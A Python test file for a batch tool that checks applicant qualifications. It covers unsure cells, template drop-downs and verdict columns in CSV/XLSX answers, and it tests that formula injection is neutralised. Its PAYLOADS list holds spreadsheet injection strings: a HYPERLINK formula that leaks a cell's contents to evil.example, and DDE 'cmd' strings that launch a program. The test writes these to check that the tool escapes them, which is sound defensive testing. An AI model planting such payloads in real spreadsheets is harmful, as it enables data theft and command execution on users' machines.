"""Spreadsheets in a batch (issue 14): cells of facts one is not sure of, the template's
drop-downs, and the verdict columns of CSV/XLSX answers; and (issue 17) text cells that a
spreadsheet would run as formulas.  Real CSV files (the csv module) and real workbooks
(openpyxl), batches run through the batch's own runner.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from pyqualify import fastest_path
from pyqualify.applicant import parse_applicant
from pyqualify.batch import run_batch
from pyqualify.batch.records import FORMULA_START, Settings, depends_text, flat_row, neutral
from pyqualify.batch.table import NOT_SURE, UNSURE_WORD, template_columns, write_template
from tests.sheets import batch, csv_rows, records, write_csv, write_jsonl, write_xlsx, xlsx_rows

HEADER = ["id", "as_of", "education",
          "diploma1_kind", "diploma1_major", "diploma1_skill_target", "diploma1_graduation",
          "diploma1_mode", "work1_start", "work1_end", "work1_occupation",
          "training1_hours", "training1_occupation", "training1_certificate",
          "training1_completed", "certificate1_level", "certificate1_occupation",
          "certificate1_obtained"]

# Each of the eight fields of docs/partial.md unknown somewhere, in each of its spellings.
UNSURE_ROWS: list[list[Any]] = [
    ["edu", "2026-01", "unknown", "", "", "", "", "", "2015-01", "", "same"]
    + [""] * 7,
    ["diploma", "2026-01", "high_school", "junior_college", "不确定", "不知道", "2019-07",
     "unknown"] + [""] * 10,
    ["work", "2026-01", "high_school", "", "", "", "", "", "2020-01", "", " 不确定 "]
    + [""] * 7,
    ["course", "2026-01", "high_school", "", "", "", "", "", "2024-01", "", "same", "120",
     "unknown", "不知道", "2025-06", "", "", ""],
    ["cert", "2026-01", "high_school", "", "", "", "", "", "2019-01", "", "same", "", "",
     "", "", "4", "不确定", "2021-03"],
]


def _json_doc(row: list[Any]) -> dict[str, Any]:
    """The applicant file a row of UNSURE_ROWS stands for (every unsure word: unknown)."""
    cells = dict(zip(HEADER, row, strict=True))

    def value(name: str) -> Any:
        text = str(cells[name]).strip()
        return "unknown" if text in ("unknown", "不确定", "不知道") else text

    doc: dict[str, Any] = {"id": cells["id"], "as_of": cells["as_of"],
                           "education": value("education")}
    if cells["diploma1_kind"]:
        doc["diplomas"] = [{"kind": value("diploma1_kind"), "major": value("diploma1_major"),
                            "skill_target": value("diploma1_skill_target"),
                            "graduation": value("diploma1_graduation"),
                            "mode": value("diploma1_mode")}]
    if cells["work1_start"]:
        doc["work"] = [{"start": value("work1_start"),
                        "occupation": value("work1_occupation")}]
    if cells["training1_hours"]:
        certificate = value("training1_certificate")
        doc["trainings"] = [{"hours": int(cells["training1_hours"]),
                             "occupation": value("training1_occupation"),
                             "certificate": certificate,
                             "completed": value("training1_completed")}]
    if cells["certificate1_level"]:
        doc["certificates"] = [{"level": int(cells["certificate1_level"]),
                                "occupation": value("certificate1_occupation"),
                                "obtained": value("certificate1_obtained")}]
    return doc


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_unknown_cells_give_the_answers_of_the_same_file_in_json(tmp_path: Path, kind: str):
    sheet = (write_csv if kind == "csv" else write_xlsx)(tmp_path / f"in.{kind}", HEADER,
                                                         UNSURE_ROWS)
    jsonl = write_jsonl(tmp_path / "in.jsonl", [_json_doc(row) for row in UNSURE_ROWS])
    from_sheet = run_batch(sheet, explain=False)
    from_json = run_batch(jsonl, explain=False)
    assert all(r["ok"] for r in from_sheet), from_sheet
    assert [r["check"] for r in from_sheet] == [r["check"] for r in from_json]
    assert [r["check"]["unknowns"] for r in from_sheet] == [
        ["education"],
        ["diplomas[0].major", "diplomas[0].skill_target", "diplomas[0].mode"],
        ["work[0].occupation"],
        ["trainings[0].occupation", "trainings[0].certificate"],
        ["certificates[0].occupation"]]
    assert from_sheet[2]["check"]["levels"][0]["verdict"] == "depends"


def test_an_unsure_word_where_a_fact_must_be_known_is_refused_naming_the_cell(
        tmp_path: Path):
    rows = [["a", "2026-01", "none", "不确定", "same", "", "2019-07", ""] + [""] * 10,
            ["b", "2026-01", "none", "", "", "", "", "", "不确定", "", "same"] + [""] * 7,
            ["c", "2026-01", "none", "", "", "", "", "", "2020-01", "", "maybe"]
            + [""] * 7]
    got = run_batch(write_csv(tmp_path / "in.csv", HEADER, rows), explain=False)
    assert [r["ok"] for r in got] == [False, False, False]
    assert [r["column"] for r in got] == ["diploma1_kind", "work1_start", "work1_occupation"]
    assert "row 4, column K (work1_occupation)" in got[2]["error"]
    assert "unknown" in got[2]["error"]   # the message lists unknown among the values


def _validations(sheet: Any) -> dict[str, list[str]]:
    """Column name -> the values of its drop-down list."""
    names = [cell.value for cell in sheet[1]]
    found: dict[str, list[str]] = {}
    for rule in sheet.data_validations.dataValidation:
        letters = str(rule.sqref).split(":")[0].rstrip("0123456789")
        from openpyxl.utils import column_index_from_string

        found[names[column_index_from_string(letters) - 1]] = (
            rule.formula1.strip('"').split(","))
    return found


def test_the_templates_drop_downs_offer_unsure_for_the_eight_fields_only(tmp_path: Path):
    from openpyxl import load_workbook

    write_template(str(tmp_path / "t.xlsx"))
    book = load_workbook(tmp_path / "t.xlsx")
    lists = _validations(book["applicants"])
    unsure = {name for name, values in lists.items() if UNSURE_WORD in values}
    fields = {"education", "major", "skill_target", "mode", "occupation", "certificate"}
    expected = {name for name in template_columns() if name == "education"
                or name.split("_", 1)[-1] in fields}
    assert unsure == expected
    assert "work5_occupation" in unsure and "training2_certificate" in unsure
    assert UNSURE_WORD not in lists["diploma1_kind"] and UNSURE_WORD not in lists[
        "certificate1_level"]
    assert lists["training1_certificate"] == ["true", "false", UNSURE_WORD]
    help_rows = [list(r) for r in book["help 说明"].iter_rows(values_only=True)]
    assert NOT_SURE in help_rows and any("unknown 不确定" in str(r[3]) for r in help_rows
                                         if r and r[0] == "work1_occupation")


def test_every_value_a_drop_down_offers_is_read_by_the_batch(tmp_path: Path):
    """A variant: the template filled in with each value of each drop-down (不确定 too)."""
    from openpyxl import load_workbook

    write_template(str(tmp_path / "t.xlsx"))
    book = load_workbook(tmp_path / "t.xlsx")
    sheet = book["applicants"]
    names = [cell.value for cell in sheet[1]]
    base = {"as_of": "2026-01", "education": "high_school", "diploma1_kind": "bachelor",
            "diploma1_major": "same", "diploma1_graduation": "2019-07",
            "work1_start": "2019-08", "work1_occupation": "same", "training1_hours": 80,
            "training1_occupation": "same", "training1_certificate": "true",
            "training1_completed": "2020-01", "certificate1_level": 4,
            "certificate1_occupation": "same", "certificate1_obtained": "2021-01"}
    row_number = 2
    for name, values in _validations(sheet).items():
        if name.split("_")[0][-1] not in "1n":   # the first group of each list stands for all
            continue
        for value in values:
            cells = {**base, "id": f"{name}={value}", name: value}
            for column, cell in cells.items():
                sheet.cell(row_number, names.index(column) + 1, cell)
            row_number += 1
    book.save(tmp_path / "filled.xlsx")
    got = run_batch(tmp_path / "filled.xlsx", explain=False)
    assert len(got) == row_number - 2 > 30
    assert [r["id"] for r in got if not r["ok"]] == []
    assert any(r["check"]["unknowns"] for r in got)


def _unsure_jsonl(tmp_path: Path) -> Path:
    return write_jsonl(tmp_path / "in.jsonl", [_json_doc(row) for row in UNSURE_ROWS] + [
        {"id": "sure", "as_of": "2026-01", "education": "high_school",
         "work": [{"start": "2019-01", "occupation": "same"}]}])


@pytest.mark.parametrize("explain", [False, True])
def test_csv_and_xlsx_answers_carry_verdict_depends_and_unknowns(tmp_path: Path,
                                                                 explain: bool):
    source = _unsure_jsonl(tmp_path)
    json_out, csv_out, xlsx_out = (tmp_path / "o.jsonl", tmp_path / "o.csv",
                                   tmp_path / "o.xlsx")
    for out in (json_out, csv_out, xlsx_out):
        batch(source, out, explain=explain)
    docs = records(json_out)
    from_csv, from_xlsx = csv_rows(csv_out), xlsx_rows(xlsx_out)
    assert len(from_csv) == len(from_xlsx) == len(docs) == 6
    depends = 0
    for doc, row, sheet_row in zip(docs, from_csv, from_xlsx, strict=True):
        check = doc["check"]
        assert row["unknowns"] == " ".join(check["unknowns"]) == (sheet_row["unknowns"] or "")
        for level in check["levels"]:
            name = f"L{level['level']}_"
            assert row[name + "verdict"] == level["verdict"] == sheet_row[name + "verdict"]
            assert row[name + "eligible"] == str(level["eligible"]).lower()
            text = depends_text(level.get("depends_on", []))
            assert row[name + "depends"] == text == (sheet_row[name + "depends"] or "")
            assert bool(text) == (level["verdict"] == "depends")
            depends += level["verdict"] == "depends"
            assert (name + "opens" in row) == explain
    assert depends >= 3
    work = next(r for r in from_csv if r["id"] == "work")
    assert work["L4_depends"] == "work[0].occupation=same,related (L4-1)"


def test_a_file_without_unknowns_keeps_every_former_column_and_adds_the_verdicts(
        tmp_path: Path):
    """Byte for byte, a CSV answer without unknowns is the former one with three new kinds
    of column (unknowns, L*_verdict, L*_depends; docs/batch.md), taken out here."""
    from pyqualify.synthetic import synthetic_lines

    source = tmp_path / "in.jsonl"
    source.write_text("".join(line + "\n" for line in synthetic_lines(40, seed=3)),
                      encoding="utf-8")
    batch(source, tmp_path / "o.csv")
    batch(source, tmp_path / "o.jsonl")
    text = (tmp_path / "o.csv").read_text(encoding="utf-8")
    lines = text.splitlines()
    new = {"unknowns"} | {f"L{n}_{k}" for n in (4, 3, 2, 1) for k in ("verdict", "depends")}
    header = lines[0].split(",")
    keep = [i for i, name in enumerate(header) if name not in new]
    former = ["line", "id", "ok", "error", "as_of", "education_ok"] + [
        f"L{n}_{k}" for n in (4, 3, 2, 1) for k in ("held", "eligible", "routes")]
    assert [header[i] for i in keep] == former
    import csv
    import io

    rows = list(csv.reader(io.StringIO(text)))[1:]
    for row, doc in zip(rows, records(tmp_path / "o.jsonl"), strict=True):
        check = doc["check"]
        expected = [str(doc["line"]), doc.get("id", ""), "true", "", check["as_of"],
                    str(check["education_ok"]).lower()]
        for level in check["levels"]:
            expected += [str(level["held"]).lower(), str(level["eligible"]).lower(),
                         " ".join(level["routes"])]
        assert [row[i] for i in keep] == expected
        assert row[header.index("unknowns")] == ""
        assert {row[header.index(f"L{n}_verdict")] for n in (4, 3, 2, 1)} <= {"yes", "no"}
        assert all(row[header.index(f"L{n}_depends")] == "" for n in (4, 3, 2, 1))


def test_a_path_rows_best_case_columns():
    """--path: the row of a path document with a best case (and one without)."""
    settings = Settings(target=1, output="csv")
    check = {"as_of": "2026-01", "education_ok": True, "unknowns": ["work[0].occupation"],
             "levels": [{"level": n, "held": False, "eligible": False, "verdict": "no",
                         "routes": []} for n in (4, 3, 2, 1)]}
    path = {"target": 1, "reachable": True, "certified": "2036-01", "months": 120,
            "best_case": {"months": 84, "certified": "2033-01",
                          "assumes": {"work[0].occupation": "same",
                                      "diplomas[0].major": "related"}}}
    row = dict(zip(settings.columns(), flat_row(
        {"line": 1, "ok": True, "check": check, "path": path}, settings), strict=True))
    assert (row["months"], row["best_months"], row["best_certified"]) == (120, 84, "2033-01")
    assert row["best_assumes"] == "work[0].occupation=same; diplomas[0].major=related"
    row = dict(zip(settings.columns(), flat_row(
        {"line": 1, "ok": True, "check": check, "path": {**path, "best_case": None}},
        settings), strict=True))
    assert (row["best_months"], row["best_certified"], row["best_assumes"]) == ("", "", "")


def test_a_csv_path_answer_with_unknowns_has_its_best_case(tmp_path: Path):
    source = write_jsonl(tmp_path / "in.jsonl", [
        {"id": "w", "as_of": "2026-01", "education": "high_school",
         "diplomas": [{"kind": "junior_college", "major": "unknown",
                       "graduation": "2025-07"}]}])
    batch(source, tmp_path / "o.csv", target=3)
    batch(source, tmp_path / "o.jsonl", target=3)
    doc, row = records(tmp_path / "o.jsonl")[0], csv_rows(tmp_path / "o.csv")[0]
    assert doc["ok"], doc
    # the record's path is the path of the file itself (no canonical question for a file
    # with unknown facts: its best_case names its own records and months)
    alone = fastest_path(parse_applicant(json.loads(source.read_text())), 3).to_json()
    for key in ("reachable", "months", "certified", "best_case"):
        assert doc["path"][key] == alone[key], key
    best = doc["path"]["best_case"]
    assert best is not None and best["months"] < doc["path"]["months"]
    assert best["assumes"] == {"diplomas[0].major": "related"}
    assert row["best_months"] == str(best["months"])
    assert row["months"] == str(doc["path"]["months"])


PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1",
            "＝1+1", " =1+1", "\u3000@SUM(A1)"]
HARMLESS = ["a-1", "plain", "1+1", "张三", "'quoted"]


def _ids_file(tmp_path: Path, ids: list[str]) -> Path:
    return write_jsonl(tmp_path / "ids.jsonl", [{"id": i, "education": "none"} for i in ids]
                       + [{"id": "bad", "education": "=1+1"}])


def test_csv_answers_never_hold_a_cell_a_spreadsheet_reads_as_a_formula(tmp_path: Path):
    batch(_ids_file(tmp_path, PAYLOADS + HARMLESS), tmp_path / "o.csv")
    rows = csv_rows(tmp_path / "o.csv")
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in FORMULA_START or
                c.lstrip(" \t\r\n\u3000")[:1] in FORMULA_START]
    ids = [row["id"] for row in rows]
    assert ids[:len(PAYLOADS)] == ["'" + p.replace("\r", " ") for p in PAYLOADS]
    assert ids[len(PAYLOADS):-1] == HARMLESS     # text that is no formula is left alone
    assert rows[-1]["ok"] == "false" and '"=1+1"' in rows[-1]["error"]


def test_neutral_is_the_leading_quote_rule():
    """A variant: the rule itself, on every starting character and a few spacings."""
    for start in FORMULA_START:
        assert neutral(start + "1") == "'" + start + "1"
        if not start.isspace():
            assert neutral(" \u3000" + start + "1") == "' \u3000" + start + "1"
    for text in ("a=1", "1-1", "", "x@y", "'=1"):
        assert neutral(text) == text


def test_xlsx_answers_store_every_text_as_a_string_never_a_formula(tmp_path: Path):
    from openpyxl import load_workbook

    out = tmp_path / "o.xlsx"
    batch(_ids_file(tmp_path, PAYLOADS), out)
    sheet = load_workbook(out)["answers"]
    ids = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in ids][:len(PAYLOADS)] == [p.replace("\r", " ") for p in PAYLOADS]
    assert {c.data_type for c in ids} == {"s"}     # a string cell, shown as typed
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml       # no formula element anywhere
    # the same workbook read back as values: still the text, never a computed value
    values = [row[1] for row in load_workbook(out, data_only=True)["answers"].iter_rows(
        min_row=2, values_only=True)]
    assert values[:len(PAYLOADS)] == [p.replace("\r", " ") for p in PAYLOADS]


def test_resuming_a_csv_answer_with_the_new_columns_equals_a_whole_run(tmp_path: Path):
    """The verdict columns go through --resume like the others."""
    source = _unsure_jsonl(tmp_path)
    whole, torn = tmp_path / "whole.csv", tmp_path / "torn.csv"
    batch(source, whole)
    data = whole.read_bytes()
    torn.write_bytes(data[:len(data) * 2 // 3])
    from pyqualify.batch.outputs import output_kind

    settings = Settings(output=output_kind(str(torn)))
    from pyqualify.batch.runner import Run, execute

    execute(Run(source=str(source), output=str(torn), settings=settings, jobs=1,
                inline=True, progress=False, resume=True))
    assert torn.read_bytes() == data
    assert json.loads(json.dumps(csv_rows(torn)))[2]["L4_verdict"] == "depends"
